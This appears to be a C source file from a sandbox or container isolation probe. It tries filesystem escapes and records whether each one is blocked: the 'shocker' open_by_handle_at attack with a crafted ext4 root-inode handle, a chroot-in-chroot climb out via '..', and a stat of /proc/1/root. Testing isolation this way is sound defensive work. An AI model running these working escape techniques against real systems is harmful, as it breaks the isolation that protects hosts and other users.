/* File system escapes: file handles ("shocker"), chroot-in-chroot, and
 * /proc/1/root.  "Escaped" means reaching a directory whose (dev, inode)
 * differs from the "/" the probe saw at start while claiming to be a root. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "probe.h"

#define FILEID_INO32_GEN 1

static int same_inode(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static struct file_handle *handle_of(const char **path_out, int *err)
{
	static const char *const paths[] = {"/", "/etc", "/bin", "/tmp", "/dev"};
	struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
	int mount_id;

	*err = ENOMEM;
	if (!fh)
		return NULL;
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		fh->handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, paths[i], fh, &mount_id, 0) == 0) {
			*path_out = paths[i];
			return fh;
		}
		*err = errno;
	}
	free(fh);
	return NULL;
}

/* With a handle of the mount's root inode crafted by hand (ext4: inode 2),
 * does the kernel hand out a directory outside our view? */
static const char *crafted_root(const struct probe *p, int mount_fd, struct file_handle *fh)
{
	static char result[32];
	unsigned int ino_gen[2] = {2, 0};
	struct stat st;
	int fd;

	if (fh->handle_type != FILEID_INO32_GEN || fh->handle_bytes != sizeof(ino_gen))
		return "not-ino32";
	memcpy(fh->f_handle, ino_gen, sizeof(ino_gen));
	fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		snprintf(result, sizeof(result), "%s", errno_name(errno));
		return result;
	}
	snprintf(result, sizeof(result), "%s",
		 fstat(fd, &st) == 0 && same_inode(&st, &p->root_st) ? "same-root" : "other-root");
	close(fd);
	return result;
}

static void attack_open_by_handle(const struct probe *p, const void *arg, struct outcome *o)
{
	const char *path = NULL;
	int err, mount_fd, fd;
	struct file_handle *fh = handle_of(&path, &err);

	if (!fh) {
		outcome_skipped(o, errno_name(err)); /* no handle: nothing to replay */
		return;
	}
	mount_fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	fd = mount_fd < 0 ? -1 : open_by_handle_at(mount_fd, fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		outcome_blocked(o, errno);
	} else {
		close(fd);
		outcome_ok(o, "%s,ino2=%s", path, crafted_root(p, mount_fd, fh));
	}
	if (mount_fd >= 0)
		close(mount_fd);
	free(fh);
}

static void attack_chroot_escape(const struct probe *p, const void *arg, struct outcome *o)
{
	const char *tmp = probe_tmpdir();
	char name[64], path[192];
	struct stat st;
	int tmp_fd = open(tmp, O_PATH | O_DIRECTORY | O_CLOEXEC);

	snprintf(name, sizeof(name), "cellar-probe-chroot.%ld", (long)getpid());
	snprintf(path, sizeof(path), "%s/%s", strcmp(tmp, "/") ? tmp : "", name);
	if (tmp_fd < 0 || mkdirat(tmp_fd, name, 0700) < 0) {
		outcome_skipped(o, "no-scratch-dir");
		return;
	}
	if (chroot(path) < 0) {
		outcome_blocked(o, errno);
	} else {
		/* the cwd stayed outside the new root: climb, then make it root */
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") < 0)
			outcome_blocked(o, errno);
		else if (stat("/", &st) == 0 && !same_inode(&st, &p->root_st))
			outcome_ok(o, "other-root");
		else
			outcome_blocked_why(o, "SAME_ROOT");
	}
	unlinkat(tmp_fd, name, AT_REMOVEDIR); /* tmp_fd still points outside */
	close(tmp_fd);
}

static void attack_stat_root(const struct probe *p, const void *arg, struct outcome *o)
{
	struct stat st;

	if (stat(arg, &st) < 0)
		outcome_blocked(o, errno);
	else if (same_inode(&st, &p->root_st))
		outcome_blocked_why(o, "SAME_ROOT");
	else
		outcome_ok(o, "other-root");
}

void attacks_escape(struct probe *p)
{
	attack_run(p, "open_by_handle", attack_open_by_handle, NULL);
	attack_run(p, "chroot_escape", attack_chroot_escape, NULL);
	attack_run(p, "proc1_root", attack_stat_root, "/proc/1/root");
	attack_run(p, "proc1_root_parent", attack_stat_root, "/proc/1/root/..");
}
